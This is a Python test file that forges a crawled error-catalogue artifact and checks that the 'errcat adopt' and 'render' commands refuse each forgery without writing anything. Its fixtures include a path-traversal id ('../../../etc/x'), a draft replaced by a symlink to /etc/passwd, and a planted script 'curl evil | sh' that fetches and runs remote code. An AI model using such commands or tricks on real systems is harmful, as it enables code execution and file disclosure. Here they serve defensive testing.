"""``errcat adopt`` against forgers who recompute the artifact's digest (anyone can): whatever a
consumer command (``render``, ``match``, ``show``) would refuse in the catalogue, adopt refuses
first, with one line and nothing written; and a manifest that lies about its records (their
counts, their commit) is refused by adopt and by the reader alike."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from pathlib import Path

import consumer_data as cd
import pytest
import test_adopt
from test_adopt import CHANGELOG, adopt, tree

from crawler.publish.writer import content_digest

Edit = Callable[[dict], None]

# the adopt tests' fixtures: what the crawl job uploads, and the write job's checkout
artifact = test_adopt.artifact
checkout = test_adopt.checkout


def dataset_of(root: Path) -> Path:
    return root / "output" / "acme" / "widgets"


def forge(
    root: Path,
    record: Edit | None = None,
    manifest: Edit | None = None,
    documents: Edit | None = None,
    lines: Callable[[list[bytes]], list[bytes]] | None = None,
) -> None:
    """Edit the artifact's dataset as a forger would: the first record in errors.jsonl.gz and
    its errors/<id>.json alike, the manifest, index.json and search.json (``documents``: each
    one's top-level object), then the manifest's content_digest made again over the files."""
    dataset = dataset_of(root)
    records = [json.loads(line) for line in gzip.decompress((dataset / "errors.jsonl.gz").read_bytes()).splitlines() if line.strip()]
    if record is not None:
        file = dataset / "errors" / f"{records[0]['id']}.json"
        record(records[0])
        file.write_text(json.dumps(records[0]), encoding="utf-8")
    raw = [json.dumps(r).encode() for r in records]
    raw = lines(raw) if lines is not None else raw
    (dataset / "errors.jsonl.gz").write_bytes(gzip.compress(b"".join(line + b"\n" for line in raw)))
    if documents is not None:
        for name in ("index.json", "search.json"):
            document = json.loads((dataset / name).read_text(encoding="utf-8"))
            documents(document)
            (dataset / name).write_text(json.dumps(document), encoding="utf-8")
    data = json.loads((dataset / "manifest.json").read_text(encoding="utf-8"))
    if manifest is not None:
        manifest(data)
    files = {p.relative_to(dataset).as_posix(): p.read_bytes() for p in dataset.rglob("*") if p.is_file()}
    files["manifest.json"] = json.dumps(data).encode()
    data["content_digest"] = content_digest(files)
    (dataset / "manifest.json").write_text(json.dumps(data), encoding="utf-8")


def _other_repository(r: dict) -> None:
    r["repo"] = {"url": "https://github.com/evil/other", "owner": "evil", "name": "other"}


def _permalink_elsewhere(r: dict) -> None:
    r["location"]["permalink"] = "https://evil.example/acme/widgets/blob/" + cd.COMMIT + "/pkg/a.py#L10"


def _provenance_elsewhere(r: dict) -> None:
    r["provenance"]["repo"] = "evil/other"


def _twice(lines: list[bytes]) -> list[bytes]:
    return [*lines, lines[0]]  # the index and the record files name each id once: only the reader counts


def _commit(value: str) -> Edit:
    return lambda d: d.__setitem__("commit", value)


FORGERIES: dict[str, tuple[dict, str]] = {
    "a record of another repository": (dict(record=_other_repository), "errors.jsonl.gz:1: the record is of another repository"),
    "a permalink to another host": (dict(record=_permalink_elsewhere), "is not on the repository's host github.com"),
    "a provenance of another repository": (dict(record=_provenance_elsewhere), "provenance names evil/other"),
    "an id twice": (dict(lines=_twice), "errors.jsonl.gz:14: id"),
    "an id that is a path": (dict(record=lambda r: r.__setitem__("id", "../../../etc/x")), '#/id: "../../../etc/x" does not match'),
    "a manifest of another host": (
        dict(manifest=lambda m: m["repo"].__setitem__("url", "https://evil.example/acme/widgets")),
        "names https://evil.example/acme/widgets",
    ),
}

LIES: dict[str, tuple[dict, str]] = {
    "entries 99,999 for 13": (
        dict(manifest=lambda m: m["counts"].__setitem__("entries", 99_999)),
        "counts.entries is 99,999, but errors.jsonl.gz holds 13 live record(s)",
    ),
    "retired 5 for none": (dict(manifest=lambda m: m["counts"].__setitem__("retired", 5)), "counts.retired is 5"),
    "skipped 3 for an empty list": (dict(manifest=lambda m: m["counts"].__setitem__("skipped", 3)), "counts.skipped is 3"),
    "commit 000...0": (dict(manifest=_commit("0" * 40)), "index.json: its commit cccccccccccc"),
    "commit 000...0 in every document": (dict(manifest=_commit("0" * 40), documents=_commit("0" * 40)), "(git's null id)"),
    "another commit of the records' date": (dict(record=lambda r: r["provenance"].__setitem__("commit_date", "2020-01-01T00:00:00+00:00")), "dated 2020-01-01"),
}


def _refused(cli, artifact: Path, checkout: Path, tmp_path: Path, monkeypatch, words: str) -> None:
    github_output = tmp_path / "github-output"
    github_output.write_text("changed=true\n")
    monkeypatch.setenv("GITHUB_OUTPUT", str(github_output))
    before = tree(checkout)
    result = adopt(cli, artifact, checkout)
    assert result.exit_code == 1, result.stdout
    (line,) = result.stderr.splitlines()[-1:]
    assert line.startswith("errcat: refusing the artifact") and words in line, result.stderr
    assert "Traceback" not in result.stderr and result.stdout == ""
    assert tree(checkout) == before  # the catalogue in place byte for byte, nothing beside it
    assert github_output.read_text() == "changed=true\n"  # no commit= for the commit message
    assert not (tmp_path / "runner-temp").exists()


@pytest.mark.parametrize("name", FORGERIES)
def test_adopt_refuses_what_render_would_refuse(cli, artifact, checkout, tmp_path, monkeypatch, name):
    edits, words = FORGERIES[name]
    forge(artifact, **edits)
    _refused(cli, artifact, checkout, tmp_path, monkeypatch, words)


@pytest.mark.parametrize("name", LIES)
def test_adopt_refuses_a_manifest_that_lies_about_its_records(cli, artifact, checkout, tmp_path, monkeypatch, name):
    edits, words = LIES[name]
    forge(artifact, **edits)
    _refused(cli, artifact, checkout, tmp_path, monkeypatch, words)


@pytest.mark.parametrize("name", ["a record of another repository", "a permalink to another host", "an id twice", "entries 99,999 for 13", "commit 000...0"])
def test_render_refuses_what_adopt_refuses_with_the_same_line(cli, artifact, tmp_path, name):
    """One reader: a forged catalogue that reached output/ some other way is refused by render
    with the very line adopt gives, and no site is written."""
    edits, words = {**FORGERIES, **LIES}[name]
    forge(artifact, **edits)
    rendered = cli("render", "--data", dataset_of(artifact), "--out", tmp_path / "site")
    assert rendered.exit_code == 1 and not (tmp_path / "site").exists()
    (line,) = rendered.stderr.splitlines()[-1:]
    assert line.startswith("errcat: ") and words in line and "Traceback" not in rendered.stderr
    adopted = adopt(cli, artifact, tmp_path / "checkout")
    assert adopted.exit_code == 1
    assert adopted.stderr.splitlines()[-1] == line.replace("errcat: ", "errcat: refusing the artifact: ", 1)


def test_a_good_artifact_is_still_adopted_after_every_check(cli, artifact, checkout, tmp_path, monkeypatch):
    """The forger's tool itself changes nothing: a dataset forged with no edit is the crawl's."""
    forge(artifact)
    github_output = tmp_path / "github-output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(github_output))
    result = adopt(cli, artifact, checkout)
    assert result.exit_code == 0, result.stderr
    assert github_output.read_text() == f"commit={cd.COMMIT}\n"
    assert (tmp_path / "runner-temp" / "changelog.md").read_text(encoding="utf-8") == CHANGELOG


# --------------------------------------------------------------------------- drafts beside the dataset


def _with_draft(artifact: Path, *, status: str = "draft", carried: bool = True, entry_id: str | None = None, where: str = "acme/widgets") -> Path:
    """The first record drafted by ``fake-model`` as the sync writes it: its file under
    curated/<where>/ and (``carried``) the record carrying it as machine-written."""
    from crawler.curate.draft_all import draft_text
    from crawler.curate.from_facts import draft_from_facts
    from crawler.model.records import CuratedFile

    first = json.loads(sorted((dataset_of(artifact) / "errors").glob("*.json"))[0].read_text(encoding="utf-8"))
    body = draft_from_facts(first, cd.COMMIT).model_dump(mode="json")
    body["what_it_means"] = "What a model wrote about it."
    body["review"] = {**body["review"], "status": status, "model": "fake-model" if status == "draft" else None}
    if entry_id is not None:
        body["id"] = entry_id
    entry = CuratedFile.model_validate(body)
    if carried:

        def carry(r: dict) -> None:
            r["explanation_status"] = "draft"
            r["explanation"]["what_it_means"] = "What a model wrote about it."
            r["explanation"]["model"] = "fake-model"

        forge(artifact, record=carry)
    path = artifact / "curated" / where / f"{entry.id}.yaml"
    path.parent.mkdir(parents=True)
    path.write_text(draft_text(entry, first["title"]), encoding="utf-8")
    return path


DRAFTS: dict[str, tuple[Callable[[Path], object], str]] = {
    "a draft of no entry of the dataset": (lambda a: _with_draft(a, carried=True, entry_id="0123456789abcdef"), "drafts no entry of the dataset"),
    "a reviewed file posing as a draft": (lambda a: _with_draft(a, status="reviewed"), "is not a machine-written draft"),
    "a draft the record does not carry": (lambda a: _with_draft(a, carried=False), "is not the draft the dataset's record carries"),
    "a draft for another dataset": (lambda a: _with_draft(a, where="evil/other"), "is a draft for another dataset"),
    "a draft that is not YAML": (lambda a: _with_draft(a).write_text("id: [unclosed\n"), "is not a curated file a crawl reads"),
    "a draft that is a symlink": (lambda a: (lambda p: (p.unlink(), p.symlink_to("/etc/passwd")))(_with_draft(a)), "is not a regular file"),
    "a script among the drafts": (lambda a: (_with_draft(a).parent / "run.sh").write_text("curl evil | sh\n"), "is not a file a dataset has"),
    "a draft nested too deeply": (lambda a: _with_draft(a).write_text("what_it_means: " + "[" * 200 + "]" * 200 + "\n"), "is not a curated file a crawl reads"),
}


@pytest.mark.parametrize("name", DRAFTS)
def test_a_draft_the_dataset_does_not_carry_is_refused_and_nothing_written(cli, artifact, checkout, tmp_path, monkeypatch, name):
    """Only the drafts the sync wrote for this dataset travel with it: anything else under
    curated/ is refused with one line, and neither the dataset nor a curated file is written."""
    make, words = DRAFTS[name]
    make(artifact)
    _refused(cli, artifact, checkout, tmp_path, monkeypatch, words)


def test_a_draft_the_record_carries_is_taken_and_a_file_in_place_is_kept(cli, artifact, checkout, tmp_path, monkeypatch):
    draft = _with_draft(artifact)
    github_output = tmp_path / "github-output"
    monkeypatch.setenv("GITHUB_OUTPUT", str(github_output))
    result = adopt(cli, artifact, checkout, "--curated", checkout / "curated")
    assert result.exit_code == 0, result.stderr
    taken = checkout / "curated" / "acme" / "widgets" / draft.name
    assert taken.read_bytes() == draft.read_bytes() and github_output.read_text() == f"commit={cd.COMMIT}\ndrafts=1\n"

    # a curated text merged meanwhile is never replaced by a machine's draft
    taken.write_text("# the curator's own\n", encoding="utf-8")
    github_output.write_text("")
    result = adopt(cli, artifact, checkout, "--curated", checkout / "curated")
    assert result.exit_code == 0, result.stderr
    assert taken.read_text(encoding="utf-8") == "# the curator's own\n" and github_output.read_text() == f"commit={cd.COMMIT}\n"
    assert "a file is there" in result.stderr
